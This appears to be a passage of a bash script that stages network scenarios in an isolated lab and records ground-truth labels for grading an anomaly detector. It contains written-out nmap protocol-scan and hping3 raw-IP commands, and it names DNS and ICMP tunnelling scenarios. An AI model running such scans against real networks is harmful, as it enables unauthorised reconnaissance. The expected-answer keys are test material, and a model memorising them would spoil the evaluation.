  MODEL_EXPECTED='[{"src":"10.77.0.11","dst":"10.77.0.88","port":4444,"what":"new listener answering established sessions"}]' write_truth "$name" \
    "New service: 10.77.0.88 listens on tcp/4444 (a port no benign capture uses) and answers six HTTP sessions from client 10.77.0.11 within ~3 s, ~15 s in; plus benign background. 4444 is on no policy watch list; six connections are no scan." \
    "python3 -m http.server 4444; nc -N" '[]' "$RULE_KINDS" \
    '[{"name":"sessions","filter":"tcp.dstport==4444 && tcp.flags.syn==1 && tcp.flags.ack==0"}]' \
    "No rule detector should fire. The model should report the new service tcp/4444 (established sessions on a port it never saw)."
}

scenario_dns_volume() { # client 10.77.0.11 resolves ordinary names ~10x faster than usual, staying under tunnel.dns
  local name=dns-volume
  capture_start "$name"
  benign_bg 81 70 --page-loads 1
  sleep 15
  local names=(www.lab.example intranet.lab.example wiki.lab.example files.lab.example www.example.com api.example.com cdn.example.org www.example.org updates.example.net)
  # dig -f: one process per batch of 6 queries (a process per query cannot keep the pace on a loaded machine)
  local i batch="$WORK/dns-batch.txt"
  : >"$batch"
  for i in 0 1 2 3 4 5; do printf '@%s %s A +short +tries=1 +time=1\n' "$NET.53" "${names[$((i * 2 % ${#names[@]}))]}" >>"$batch"; done
  rec c2 "dig -f dns-batch.txt  # 6 ordinary A queries, every ~1.2 s for 40 s"
  local end=$((SECONDS + 40))
  while ((SECONDS < end)); do
    nsx c2 dig -f "$batch" >/dev/null || true
    sleep 1
  done
  wait_benign
  capture_stop "$name"
  MODEL_EXPECTED='[{"src":"10.77.0.11","dst":"10.77.0.53","port":53,"what":"DNS query volume ~10x the usual, ordinary names"}]' write_truth "$name" \
    "DNS volume jump: client 10.77.0.11 sends batches of 6 ordinary A queries (names the resolver knows) about every 1.2 s for 40 s, ~15 s in: about ten times the lab's usual DNS rate (the benign captures average ~0.4 queries/s over both clients); plus benign background. Short repeated names: no long, random or unusual queries, so tunnel.dns has no content signal; 5 pps is far under rate.spike." \
    "dig (bind9-dnsutils)" '[]' "$RULE_KINDS" \
    '[{"name":"queriesFromC2","filter":"ip.src==10.77.0.11 && dns.flags.response==0"}]' \
    "No rule detector should fire. The model should flag udp/53 windows (flows far past the port's p99)."
}

scenario_scan_ipproto() { # nmap -sO: one probe per IP protocol number; a benign pair exchanging a few non-TCP/UDP protocols
  local name=scan-ipproto
  capture_start "$name"
  benign_bg 97 40 --page-loads 1
  sleep 5
  # Hard negative first: client c1 and srv exchange raw IP datagrams of five protocols both ways
  # (GRE 47, ESP 50, AH 51, OSPF 89, VRRP 112: hping3 --rawip, 5 each way at 5/s), as tunnel and
  # routing peers do; the lab kernel has no GRE/IPIP/ESP modules, so the payloads are hping3's.
  local proto
  for proto in 47 50 51 89 112; do
    rec c1 hping3 -q -0 -H "$proto" -d 32 -i u200000 -c 5 "$NET.30"
    nsx c1 timeout 10 hping3 -q -0 -H "$proto" -d 32 -i u200000 -c 5 "$NET.30" >>"$WORK/hping3-rawip.txt" 2>&1 &
    PIDS+=($!)
    rec srv hping3 -q -0 -H "$proto" -d 32 -i u200000 -c 5 "$NET.10"
    nsx srv timeout 10 hping3 -q -0 -H "$proto" -d 32 -i u200000 -c 5 "$NET.10" >>"$WORK/hping3-rawip.txt" 2>&1 || log "hping3 exit $?"
  done
  sleep 3
  local cmd=(nmap -sO -Pn -n --max-rate 100 --max-retries 1 "$NET.30")
  rec scan "${cmd[@]}"
  nsx scan timeout 60 "${cmd[@]}" >"$WORK/nmap-ipproto.txt" 2>&1 || log "nmap exit $?"
  wait_benign
  capture_stop "$name"
  NOT_EXPECTED='[{"kind":"scan.vertical","src":"10.77.0.10","why":"five protocols exchanged both ways with 10.77.0.30 (a tunnel or routing peer), not a scan"},{"kind":"scan.vertical","src":"10.77.0.30","why":"the same exchange from the other side"}]' \
    write_truth "$name" "nmap IP protocol scan (-sO, all 256 protocol numbers, one probe each plus one retry when unanswered, max 100 probes/s) of the server 10.77.0.30 from the scanner 10.77.0.66, starting ~10 s in. The target's kernel answers the ICMP and TCP probes in kind and a few of the other protocols with ICMP protocol unreachable (rate-limited: 13 in the committed capture); the rest go unanswered. Hard negative before it: 10.77.0.10 and 10.77.0.30 exchange raw IP datagrams of protocols 47, 50, 51, 89, 112 both ways (hping3 --rawip, 5 each way). Benign background from two clients." \
    "$(nmap --version | head -1) -sO -Pn -n --max-rate 100 --max-retries 1; hping3 3.0.0-alpha-2 -0 -H PROTO -d 32 -c 5" \
    '[{"kind":"scan.vertical","src":"10.77.0.66","dst":"10.77.0.30","port":null,"proto":"unknown_transport"}]' \
    '["scan.horizontal","tunnel.dns","tunnel.icmp","scan.distributed","c2.beacon"]' \
    '[{"name":"scannerProbes","filter":"ip.src==10.77.0.66 && ip.dst==10.77.0.30"},{"name":"scannerDistinctProtocols","filter":"ip.src==10.77.0.66 && ip.dst==10.77.0.30","distinct":"ip.proto"},{"name":"scannerUnknownTransportProbes","filter":"ip.src==10.77.0.66 && ip.dst==10.77.0.30 && !tcp && !udp && !icmp"},{"name":"protocolUnreachables","filter":"ip.src==10.77.0.30 && icmp.type==3 && icmp.code==2"},{"name":"benignRawIp","filter":"((ip.src==10.77.0.10 && ip.dst==10.77.0.30) || (ip.src==10.77.0.30 && ip.dst==10.77.0.10)) && (ip.proto==47 || ip.proto==50 || ip.proto==51 || ip.proto==89 || ip.proto==112) && !icmp"}]' \
    "Flows of transports other than TCP, UDP and ICMP have ports 0 (unknown_transport in Zeek's conn.log, whose ip_proto column names the protocol); the protocol scan is a scan.vertical over IP protocol numbers (evidence.basis ip-protocols). nmap's probes of each protocol go to the same (host, port 0, unknown_transport), so rate.spike is neither expected nor forbidden."
  cat "$WORK/nmap-ipproto.txt" >&2
}

run_scenario() {
  case $1 in
    scan-stealth) scenario_scan_stealth ;;
    scan-ipproto) scenario_scan_ipproto ;;
    scan-distributed) scenario_scan_distributed ;;
    scan-arp) scenario_scan_arp ;;
    policy-2012) scenario_policy_2012 ;;
    midstream) scenario_midstream ;;
    bulk-upload) scenario_bulk_upload ;;
    new-listener) scenario_new_listener ;;
    dns-volume) scenario_dns_volume ;;
    beacon) scenario_beacon ;;
    rate-spike-icmp-flood) scenario_icmp_flood rate-spike-icmp-flood 0 ;;
    rate-spike-icmp-flood-noreply) scenario_icmp_flood rate-spike-icmp-flood-noreply 1 ;;
    benign-fast-ping) scenario_benign_fast_ping ;;
    icmp-tunnel-icmptx) scenario_icmp_tunnel_icmptx ;;
    benign-[1-4]) scenario_benign "${1#benign-}" ;;
    scan-vertical) scenario_scan_vertical ;;
    scan-fragmented) scenario_scan_fragmented ;;
    scan-horizontal) scenario_scan_horizontal ;;
    rate-spike) scenario_rate_spike ;;
    rate-control) scenario_rate_control ;;
    dns-tunnel-iodine) scenario_dns_tunnel ;;
    dns-tunnel-iodine-raw) scenario_dns_tunnel_iodine_raw ;;
    dns-tunnel-dns2tcp-key) scenario_dns_tunnel_dns2tcp_key ;;
    icmp-tunnel-ptunnel) scenario_icmp_tunnel ;;
    *) die "unknown scenario $1 (try --list)" ;;
  esac
}

main() {
  local scenarios=("$@")
  ((${#scenarios[@]})) || scenarios=("${ALL_SCENARIOS[@]}")
  for s in "${scenarios[@]}"; do [[ " ${ALL_SCENARIOS[*]} " == *" $s "* ]] || die "unknown scenario $s (try --list)"; done
  need_packages
  trap teardown EXIT
  trap 'exit 130' INT TERM
  lab_up
  for s in "${scenarios[@]}"; do
    log "=== $s"
    run_scenario "$s"
  done
  log "done: ${scenarios[*]} -> $OUT"
}

main "$@"
